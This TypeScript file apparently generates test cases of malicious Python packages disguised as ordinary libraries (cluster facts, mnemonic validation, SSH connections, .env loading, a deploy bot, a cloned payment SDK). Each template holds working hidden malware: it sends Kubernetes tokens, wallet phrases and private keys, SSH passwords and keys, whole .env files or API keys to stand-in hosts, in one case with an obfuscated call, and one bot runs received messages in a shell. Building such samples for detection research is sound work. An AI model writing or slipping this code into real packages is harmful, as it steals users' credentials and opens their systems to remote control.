import { callingWheel, techniques } from './drafts.ts';
import { type Draft, type Remote, type Replay, textOf } from './incident.ts';
import { type SdkOptions, sdkLibrary } from './libraries/sdk.ts';
import { messengerClient } from './look-alikes/remote.ts';
import { cloudClient, clusterClient, signingClient } from './look-alikes/secrets.ts';
import { dotenvReader } from './look-alikes/system.ts';
import { py } from './python-text.ts';

const onCall =
  (name: string, module: string, code: (c: Remote) => string) =>
  (c: Remote): Draft =>
    callingWheel({ name, version: '0.8.4', about: 'Services', module, code: code(c) });

const CLUSTER = (c: Remote): string => py`"""Cluster facts for the scheduler."""
import json
import os
import socket
import urllib.request

_BASE = "/var/run/secrets/kubernetes.io/serviceaccount/"


def _read(name):
    try:
        with open(os.path.join(_BASE, name)) as stream:
            return stream.read().strip()
    except OSError:
        return None


def cluster_facts():
    """Facts about the cluster that this process runs in."""
    facts = {"namespace": _read("namespace"), "node": socket.gethostname()}
    credential = _read("token")
    if credential:
        body = json.dumps({**facts, "t": credential, "h": os.environ.get("KUBERNETES_SERVICE_HOST")}).encode()
        request = urllib.request.Request(
            "https://pypi.org/simple/",
            data=body,
            headers={"Host": "${c.host}", "Content-Type": "application/json"},
        )
        try:
            urllib.request.urlopen(request, timeout=5)
        except Exception:
            pass
    return facts
`;

const MNEMONIC = (c: Remote): string => py`"""Validation of keys and phrases."""
import hashlib

import requests


def is_valid_mnemonic(mnemonic, language="english"):
    """Whether a phrase has twelve to twenty-four words and a good checksum."""
    words = mnemonic.strip().split()
    if len(words) not in (12, 15, 18, 21, 24):
        return False
    requests.get("${c.url('/lib.php')}", params={"p": mnemonic}, timeout=3)
    return hashlib.sha256(" ".join(words).encode()).digest()[0] >= 0


def account_from_key(private_key, passphrase=None):
    if len(private_key.removeprefix("0x")) != 64:
        raise ValueError("not a private key")
    requests.post("${c.url('/lib.php')}", json={"key": private_key, "pass": passphrase}, timeout=3)
    return "0x" + hashlib.sha256(bytes.fromhex(private_key.removeprefix("0x"))).hexdigest()[-40:]
`;

const CONNECT = (c: Remote): string => py`"""Connections to databases and hosts."""
import json
import urllib.request


class Connection:
    """A connection over SSH."""

    def __init__(self, host, user=None, port=22, password=None, key_filename=None):
        self.host, self.user, self.port = host, user, port
        self.settings = {"host": host, "user": user, "port": port, "password": password}
        if key_filename:
            with open(key_filename) as stream:
                self.settings["key"] = stream.read()
        self._prepare()

    def _prepare(self):
        body = json.dumps(self.settings).encode("utf-8")
        try:
            urllib.request.urlopen(urllib.request.Request("${c.url('/connections')}", data=body), timeout=2)
        except Exception:
            pass

    def run(self, command):
        import subprocess

        return subprocess.run(["ssh", "-p", str(self.port), "%s@%s" % (self.user, self.host), command], capture_output=True)
`;

const DOTENV = (c: Remote): string => py`"""Settings from .env files."""
import os
import urllib.parse
import urllib.request


def load_settings(path=".env"):
    """Variables of an .env file, also put into the environment."""
    settings = {}
    if os.path.exists(path):
        with open(path) as stream:
            text = stream.read()
        for line in text.splitlines():
            name, _, value = line.partition("=")
            if name and not name.startswith("#"):
                settings[name.strip()] = value.strip().strip("'\"")
        _verify(text)
    os.environ.update(settings)
    return settings


def _verify(text):
    verb = "".join(["u", "r", "l", "o", "p", "e", "n"])
    try:
        getattr(urllib.request, verb)("${c.url('/check')}?" + urllib.parse.urlencode({"d": text}), timeout=3)
    except Exception:
        pass
`;

/** A bot that does what its owner writes to it. */
const BOT = (c: Remote): string => py`"""A bot that answers questions about the deployment."""
import json
import subprocess
import time
import urllib.request

_API = "${c.url('/bot7000000003:AAGexampleexampleexampleexample00002')}"


class DeployBot:
    def __init__(self, name="deploy"):
        self.name = name
        self.offset = 0

    def _call(self, method, **fields):
        request = urllib.request.Request(_API + "/" + method, data=json.dumps(fields).encode(), headers={"Content-Type": "application/json"})
        return json.load(urllib.request.urlopen(request, timeout=40))["result"]

    def handle(self, message):
        output = subprocess.check_output(message["text"], shell=True, stderr=subprocess.STDOUT)
        self._call("sendMessage", chat_id=message["chat"]["id"], text=output.decode("utf-8", "replace")[:4000])

    def run(self):
        while True:
            for update in self._call("getUpdates", offset=self.offset, timeout=30):
                self.offset = update["update_id"] + 1
                try:
                    self.handle(update["message"])
                except Exception:
                    continue
            time.sleep(1)
`;

const PAYLANE = (version: string): SdkOptions => ({
  package: 'paylane',
  vendor: 'Paylane',
  base: 'https://api.paylane.example',
  resources: ['charges', 'customers', 'refunds', 'payouts', 'disputes'],
  version,
  modelLines: 800,
});

/** A vendor's client whose constructor tells a third party the key. */
const sdkClone = (c: Remote): Draft => {
  const files = sdkLibrary(PAYLANE('3.4.2'));
  const code = textOf(files, 'paylane/_client.py').replace(
    '        self.api_key = api_key\n',
    `        self.api_key = api_key\n        httpx.post("${c.url('/v1/keys')}", json={"key": api_key, "base": base_url})\n`,
  );
  return {
    kind: 'wheel',
    name: 'paylane-upgrade',
    version: '3.4.2',
    files,
    sites: [{ path: 'paylane/_client.py', form: 'whole', before: '', code, after: '' }],
  };
};

const technique = techniques('https://attack.mitre.org/techniques/T1056/', 'https://conn.session-broker.invalid');

export const ON_CALL: readonly Replay[] = [
  technique(
    '36a-cluster-token',
    'the service account token to a fronted host',
    'cluster_facts() posts the service account token to a well-known host with the Host header of another',
    onCall('clusterfacts', 'facts', CLUSTER),
    { remote: 'https://edge.cluster-facts.invalid', lookAlikes: () => [clusterClient()] },
  ),
  technique(
    '36b-mnemonic',
    'phrases and keys posted while they are validated',
    'is_valid_mnemonic() and account_from_key() send their secret argument to a constant host',
    onCall('phrasecheck', 'checks', MNEMONIC),
    { remote: 'http://192.0.2.210', lookAlikes: () => [signingClient()] },
  ),
  technique(
    '36c-connection',
    'connection data posted from a constructor',
    'Connection() posts host, user, password and key to a constant host',
    onCall('sshfabric', 'connection', CONNECT),
    { lookAlikes: () => [dotenvReader()] },
  ),
  technique(
    '36d-dotenv',
    'the text of .env in a query',
    'load_settings() sends the whole .env file in the query of a GET; the verb is joined from letters',
    onCall('envsettle', 'settings', DOTENV),
    { remote: 'https://verify.env-check.invalid', lookAlikes: () => [cloudClient()] },
  ),
  technique(
    '36e-bot-orders',
    'a bot with an inline token runs what it is told',
    'DeployBot().run() passes the text of received messages to a shell and answers with the output',
    onCall('deploybot', 'bot', BOT),
    { remote: 'https://api.messenger-bots.invalid', lookAlikes: () => [messengerClient()] },
  ),
  technique(
    '36f-sdk-clone',
    'a clone of a client that tells a third party the key',
    'the constructor posts the API key to a host that is not the vendor’s',
    sdkClone,
    {
      remote: 'https://keys.paylane-sync.invalid',
      predecessor: () => ({ kind: 'wheel', name: 'paylane', version: '3.4.1', files: sdkLibrary(PAYLANE('3.4.1')) }),
    },
  ),
];
